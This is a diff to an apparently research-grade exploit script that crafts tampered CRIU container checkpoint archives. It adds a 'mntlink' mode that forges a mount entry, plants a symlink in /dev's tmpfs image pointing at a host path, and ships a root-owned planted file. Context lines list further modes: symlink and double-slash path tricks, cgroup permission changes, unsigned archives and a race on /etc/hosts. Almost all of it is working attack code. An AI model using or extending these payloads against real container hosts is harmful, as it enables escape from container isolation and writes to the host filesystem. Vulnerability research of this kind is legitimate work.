@@ -41,6 +41,10 @@ MODE maskorder: UNSIGNED (attack30h): read-only binds of proc's /keys and /timer
 MODE masksub: UNSIGNED (attack30h): a read-only bind of sysfs's /firmware/acpi at /sys/firmware/acpi, a CHILD of the
               runtime's tmpfs mask at /sys/firmware (the mask's tmpfs image gains the directory ./acpi): the masked
               check looks at /sys/firmware itself only; "part of sysfs, read-only, at the path it shows" holds.
+MODE mntlink: UNSIGNED (attack30h): a new whole tmpfs (root "/", allowed anywhere) at /dev/attack30h-m, its own content
+              image (tmpfs-dev-999: one root-owned file attack30h-planted) and /dev's tmpfs image gains
+              ./attack30h-m -> ARG (default /var/tmp/attack30h/mtarget): CRIU untars /dev's content, then mounts the
+              child at its mountpoint by path, in its own (a copy of the host's) mount namespace.
 MODE racehosts: SIGNED; spec.dump gains a second /etc/hosts bind from ARG/overlay-containers/<ID>/userdata/hosts
               (ARG: a running container's MERGED/attack30h, where that container flips userdata between a real
               directory and a link to /etc: check-then-use).
@@ -61,7 +65,7 @@ devtar = "checkpoint/tmpfs-dev-%d.tar.gz.img" % next(
     e["root_dev"] & 0xfffff for e in pycriu.images.loads(_mnt)["entries"] if e["mountpoint"] == "/dev")
 fwtar = "checkpoint/tmpfs-dev-%d.tar.gz.img" % next(
     e["root_dev"] & 0xfffff for e in pycriu.images.loads(_mnt)["entries"] if e["mountpoint"] == "/sys/firmware")
-UNSIGNED = mode in ("dslash", "ctrlink", "tmpfsbind", "procroot", "cgext", "cgdevext", "nosig", "cgflip", "cgdevflip", "maskorder", "masksub")
+UNSIGNED = mode in ("dslash", "ctrlink", "tmpfsbind", "procroot", "cgext", "cgdevext", "nosig", "cgflip", "cgdevflip", "maskorder", "masksub", "mntlink")
 if mode == "dslash":
     source = f"/var/lib/containers/storage/overlay-containers//{cid}/userdata/attack30h-l/overlay-containers/{cid}/etc"
 elif mode == "ctrlink":
@@ -72,6 +76,12 @@ def mounts(data):
     doc = pycriu.images.loads(data)
     entries = doc["entries"]
     root = next(e for e in entries if e["mountpoint"] == "/")
+    if mode == "mntlink":
+        dev = next(e for e in entries if e["mountpoint"] == "/dev")
+        entries.append(dict(dev, mnt_id=800, parent_mnt_id=dev["mnt_id"], root_dev=999, root="/",
+                            mountpoint="/dev/attack30h-m", flags=0x200000 | 0x6, sb_flags=0, ext_key=None))
+        entries[-1].pop("ext_key")
+        buf = io.BytesIO(); pycriu.images.dump(doc, buf); return buf.getvalue()
     if mode == "masksub":
         sysfs = next(e for e in entries if e["mountpoint"] == "/sys")
         mask = next(e for e in entries if e["mountpoint"] == "/sys/firmware")
@@ -124,6 +134,8 @@ def dev_tar(data):
             t.addfile(info("./attack30h-l", tarfile.SYMTYPE, "/"))
         elif mode == "masksub":
             t.addfile(info("./acpi", tarfile.DIRTYPE))
+        elif mode == "mntlink":
+            t.addfile(info("./attack30h-m", tarfile.SYMTYPE, arg or "/var/tmp/attack30h/mtarget"))
         elif mode == "cgdevflip":
             node = info("./attack30h-dev", tarfile.CHRTYPE); node.mode = 0o600
             node.devmajor, node.devminor = (int(x) for x in (arg or "1:11").split(":"))
@@ -170,7 +182,7 @@ with open(out, "wb") as sink, zstandard.ZstdCompressor().stream_writer(sink) as 
             d = mounts(d)
         if mode == "masksub" and m.name == fwtar:
             d = dev_tar(d)
-        elif mode in ("tmpfsbind", "cgdevext", "cgdevflip") and m.name == devtar:
+        elif mode in ("tmpfsbind", "cgdevext", "cgdevflip", "mntlink") and m.name == devtar:
             d = dev_tar(d)
         if UNSIGNED and m.name == "checkpoint/cgroup.img":
             d = freezer_perms(d)
@@ -191,6 +203,15 @@ with open(out, "wb") as sink, zstandard.ZstdCompressor().stream_writer(sink) as 
             m.size = len(d); tout.addfile(m, io.BytesIO(d))
         else:
             tout.addfile(m)
+    if mode == "mntlink":  # the new tmpfs's content: one root-owned file
+        import gzip
+        tb = io.BytesIO()
+        with tarfile.open(fileobj=tb, mode="w", format=tarfile.GNU_FORMAT) as t:
+            t.addfile(info(".", tarfile.DIRTYPE))
+            f = info("./attack30h-planted", tarfile.REGTYPE); body = b"planted by an archive through CRIU\n"; f.size = len(body)
+            t.addfile(f, io.BytesIO(body))
+        body = gzip.compress(tb.getvalue()); f = tarfile.TarInfo("checkpoint/tmpfs-dev-999.tar.gz.img"); f.size = len(body)
+        f.mode = 0o600; tout.addfile(f, io.BytesIO(body))
     if mode == "dslash":
         tout.addfile(info("attack30h-l", tarfile.DIRTYPE))
         tout.addfile(info("attack30h-l/overlay-containers", tarfile.DIRTYPE))
